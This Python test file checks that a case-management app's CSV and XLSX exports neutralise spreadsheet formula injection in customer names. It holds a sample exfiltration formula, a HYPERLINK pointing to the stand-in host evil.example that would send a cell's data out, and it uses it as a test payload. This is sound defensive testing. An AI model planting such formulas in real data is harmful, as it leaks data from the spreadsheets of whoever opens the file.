"""Issue 11: the case list's CSV and XLSX downloads make formulas in customer data inert; the
customer's name comes from the public request page."""

import datetime

import pytest
from django.core.cache import cache
from django.urls import reverse

from forms.choices import FieldType, FormPurpose
from project.accounts.roles import Role
from tests.exports import FORMULA_PAYLOADS, export_rows, neutralised, read_from_xlsx
from tests.factories import StoreFactory, UserFactory
from tests.forms.pages import add_page, published_form
from tests.workflows.factories import published_process
from workflows.models import Case
from workflows.models.pages import CaseRequestPage
from workflows.services import case_open

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
FORMATS = ["csv", "xlsx"]
CUSTOMER_NAME = 4  # the column of "Customer name"
OPENED = 7


@pytest.fixture(autouse=True)
def fresh_rate_limit():
    cache.clear()


@pytest.fixture
def store():
    return StoreFactory(code="SEL-01", name="Seoul")


@pytest.fixture
def process():
    intake = published_form(
        [
            {"label": "Name", "field_type": FieldType.SINGLE_LINE},
            {"label": "E-mail", "field_type": FieldType.EMAIL},
        ],
        name="Repair intake",
        purpose=FormPurpose.INTAKE,
    )
    return published_process(name="Care", prefix="REP", intake_form=intake)


@pytest.fixture
def staff(store):
    return UserFactory(role=Role.STORE_STAFF, stores=[store])


def export(client, export_format):
    return export_rows(client.get(reverse("cases:index"), {"export": export_format}), export_format)


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_formula_sent_as_a_name_from_the_public_page_is_inert_in_the_export(
    client, login_client, process, store, staff, export_format
):
    page = add_page(
        CaseRequestPage(
            title="Repair request",
            slug="repair-request",
            process=process,
            store=store,
            form=process.intake_form,
        )
    )
    response = client.post(page.url, {"name": HYPERLINK, "e_mail": "evil@example.com"})
    assert response.status_code == 302
    assert Case.objects.get().customer_name == HYPERLINK

    heading, row = export(login_client(staff), export_format)

    assert heading[CUSTOMER_NAME] == "Customer name"
    assert row[CUSTOMER_NAME] == neutralised(HYPERLINK)


@pytest.mark.parametrize("export_format", FORMATS)
def test_every_formula_trigger_in_customer_data_is_neutralised(
    login_client, process, store, staff, export_format
):
    for index, payload in enumerate([*FORMULA_PAYLOADS, "Ji-woo Park"]):
        case_open(
            process=process,
            store=store,
            actor=staff,
            customer={"name": payload, "email": payload if index == 0 else ""},
            data={"name": payload, "e_mail": "customer@example.com"},
        )

    heading, *rows = export(login_client(staff), export_format)

    expected = {neutralised(payload) for payload in FORMULA_PAYLOADS} | {"Ji-woo Park"}
    if export_format == "xlsx":
        expected = {read_from_xlsx(text) for text in expected}
    assert {row[CUSTOMER_NAME] for row in rows} == expected
    assert {row[CUSTOMER_NAME + 1] for row in rows} - {"", None} == {neutralised("=1+1")}
    # Everything else is as before: the reference, process, state and store as text.
    assert {(row[1], row[2], row[3]) for row in rows} == {("Care", "Intake", "SEL-01")}


def test_the_xlsx_export_keeps_dates_as_dates(login_client, process, store, staff):
    case = case_open(
        process=process,
        store=store,
        actor=staff,
        customer={"name": "-5"},
        data={"name": "-5", "e_mail": "customer@example.com"},
    )

    heading, row = export(login_client(staff), "xlsx")

    assert heading[OPENED] == "Opened"
    # A date cell, in UTC as Wagtail writes moments to XLSX (which has no time zones).
    assert isinstance(row[OPENED], datetime.datetime)
    opened_utc = case.opened_at.astimezone(datetime.UTC).replace(tzinfo=None)
    assert abs(row[OPENED] - opened_utc) < datetime.timedelta(seconds=1)
    assert row[CUSTOMER_NAME] == "'-5"  # text that looks like a number is still text
